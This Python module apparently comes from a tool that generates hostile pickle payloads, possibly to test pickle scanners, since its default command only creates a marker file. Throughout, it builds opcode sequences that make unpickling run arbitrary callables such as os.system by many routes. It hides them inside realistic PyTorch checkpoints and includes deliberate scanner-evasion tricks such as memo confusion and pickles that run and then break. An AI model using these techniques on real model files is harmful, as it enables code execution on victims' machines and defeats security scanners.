"""Pickles written opcode by opcode: every route by which a pickle calls what it names."""

from __future__ import annotations

import math
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hostile.payload import TOKEN, command_of
from hostile.payloads.callables import Call

__all__ = ["PLACES", "ROUTES", "encode", "filled", "tensor"]

Route = Callable[[str, str, tuple[Any, ...]], bytes]


def encode(value: Any) -> bytes:
    """Opcodes that leave a plain value on the stack."""
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value) if abs(value) < 1 << 31 else b"I" + str(value).encode() + b"\n"
    if isinstance(value, str):
        data = value.encode("utf-8", "surrogatepass")
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(map(encode, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(encode, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(encode(k) + encode(v) for k, v in value.items()) + b"u"
    raise TypeError(type(value))


def filled(call: Call, marker: Path) -> tuple[Any, ...]:
    """The call's arguments, with the marker in them."""
    code = f"open({str(marker)!r}, 'w').close()"
    inner = b"cos\nsystem\n" + encode(command_of(marker)) + b"\x85R."

    def fill(value: Any) -> Any:
        if isinstance(value, str):
            if value == "{pickle}":
                return inner
            return (
                value.replace("{command}", command_of(marker)).replace("{code}", code).replace("{marker}", f"{marker}")
            )
        if isinstance(value, tuple | list):
            return type(value)(map(fill, value))
        if isinstance(value, dict):
            return {key: fill(item) for key, item in value.items()}
        return value

    return tuple(map(fill, call.args))


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _stacked(module: str, name: str) -> bytes:
    return encode(module) + encode(name) + b"\x93"


def _memo_confused(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    """Fill the memo so that a scanner that only counts MEMOIZE sees another name (picklescan #14)."""
    dangerous = encode(module) + b"q\x00" + encode(name) + b"q\x01"
    harmless = encode("torch._utils") + b"\x94" + encode("_rebuild_tensor_v2") + b"\x94"
    return dangerous + b"00" + harmless + b"00" + b"h\x00h\x01\x93" + encode(args) + b"R"


def _attribute(then: Callable[[tuple[Any, ...]], bytes], attribute: str) -> Route:
    """Put the callable where an opcode looks for a method."""

    def route(module: str, name: str, args: tuple[Any, ...]) -> bytes:
        bare = b"ctorch.nn.modules.module\nModule\n)\x81"
        return bare + b"}" + encode(attribute) + _global(module, name) + b"sb" + then(args)

    return route


def _extension(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    register = b"ccopyreg\nadd_extension\n" + encode((module, name, 0x77)) + b"R0"
    return register + b"\x82\x77" + encode(args) + b"R"


def _chain(getter: str) -> Route:
    def route(module: str, name: str, args: tuple[Any, ...]) -> bytes:
        loaded = b"cimportlib\nimport_module\n" + encode((module,)) + b"R"
        if getter == "getattr":
            found = b"cbuiltins\ngetattr\n(" + loaded + encode(name) + b"tR"
        else:
            found = b"coperator\nattrgetter\n" + encode((name,)) + b"R(" + loaded + b"tR"
        return found + encode(args) + b"R"

    return route


def _dotted(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    top, _, rest = module.partition(".")
    return _stacked(top, f"{rest}.{name}" if rest else f"{name}.__call__") + encode(args) + b"R"


def _through_torch(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    """Reach it as an attribute of a module that a checkpoint may name."""
    return _stacked("torch.serialization", f"{module}.{name}") + encode(args) + b"R"


def _nested(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    inner = b"\x80\x04" + _stacked(module, name) + encode(args) + b"R."
    return b"c_pickle\nloads\n" + encode((inner,)) + b"R"


def _from_bytes(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    inner = b"\x80\x02" + _global(module, name) + encode(args) + b"R."
    return b"ctorch.storage\n_load_from_bytes\n" + encode((inner,)) + b"R"


ROUTES: dict[str, Route] = {
    "GLOBAL": lambda m, n, a: _global(m, n) + encode(a) + b"R",
    "STACK_GLOBAL": lambda m, n, a: _stacked(m, n) + encode(a) + b"R",
    "memo": _memo_confused,
    "INST": lambda m, n, a: b"(" + b"".join(map(encode, a)) + f"i{m}\n{n}\n".encode(),
    "OBJ": lambda m, n, a: b"(" + _global(m, n) + b"".join(map(encode, a)) + b"o",
    "NEWOBJ": lambda m, n, a: _global(m, n) + encode(a) + b"\x81",
    "NEWOBJ_EX": lambda m, n, a: _global(m, n) + encode(a) + b"}\x92",
    "BUILD": _attribute(lambda args: encode(args[0] if args else None) + b"b", "__setstate__"),
    "APPEND": _attribute(lambda args: encode(args[0] if args else None) + b"a", "append"),
    "APPENDS": _attribute(lambda args: b"(" + encode(args[0] if args else None) + b"e", "extend"),
    "ADDITEMS": _attribute(lambda args: b"(" + encode(args[0] if args else None) + b"\x90", "add"),
    "SETITEM": _attribute(lambda args: encode(args[0] if args else None) + b"Ns", "__setitem__"),
    "EXT1": _extension,
    "getattr": _chain("getattr"),
    "attrgetter": _chain("attrgetter"),
    "dotted": _dotted,
    "through torch": _through_torch,
    "partial": lambda m, n, a: b"cfunctools\npartial\n(" + _global(m, n) + b"".join(map(encode, a)) + b"tR)R",
    "map": lambda m, n, a: (
        b"cbuiltins\nlist\n(cbuiltins\nmap\n(" + _global(m, n) + encode([a[0] if a else None]) + b"tRtR"
    ),
    "nested": _nested,
    "_load_from_bytes": _from_bytes,
    "PERSID": lambda m, n, a: _global(m, n) + encode(a) + b"RQ",
    "twice": lambda m, n, a: (_global(m, n) + encode(a) + b"R0") * 2 + encode(TOKEN),
}


def tensor(key: str = "0", shape: tuple[int, ...] = (8, 3, 3, 3)) -> bytes:
    """Opcodes of a float tensor over a storage of 216 numbers, as torch writes them."""
    strides = [math.prod(shape[place + 1 :]) for place in range(len(shape))]
    pid = b"(" + encode("storage") + b"ctorch\nFloatStorage\n" + encode(key) + encode("cpu") + encode(216) + b"tQ"
    rest = encode(0) + encode(shape) + encode(tuple(strides)) + b"\x89ccollections\nOrderedDict\n)R"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + rest + b"tR"


def _state() -> bytes:
    return b"}" + encode("conv.weight") + tensor() + b"s"


#: Where in a checkpoint the payload's object lies.
PLACES: dict[str, Callable[[bytes], bytes]] = {
    "value": lambda body: b"\x80\x04" + _state() + encode(TOKEN) + body + b"s.",
    "lightning": lambda body: (
        b"\x80\x04}(" + encode("state_dict") + _state() + encode("hyper_parameters") + body + b"u."
    ),
    "popped": lambda body: b"\x80\x04" + body + b"0" + _state() + b".",
    "key": lambda body: b"\x80\x04" + _state() + body + encode(1) + b"s.",
    "alone": lambda body: b"\x80\x02" + body + b".",
    "before": lambda body: b"\x80\x02" + body + b"." + b"\x80\x04" + _state() + b".",
    "after": lambda body: b"\x80\x04" + _state() + b"." + b"\x80\x02" + body + b".",
    "broken after": lambda body: b"\x80\x04" + body + b"0" + b"\xff\xfezq7x",  # nullifAI: runs, then breaks
    "protocol 0": lambda body: _state() + encode(TOKEN) + body + b"s.",
    "hook": lambda body: (
        b"\x80\x04}"
        + encode("conv.weight")
        + b"ctorch._utils\n_rebuild_parameter\n("
        + tensor()
        + b"\x88"
        + body
        + b"tRs."
    ),
}
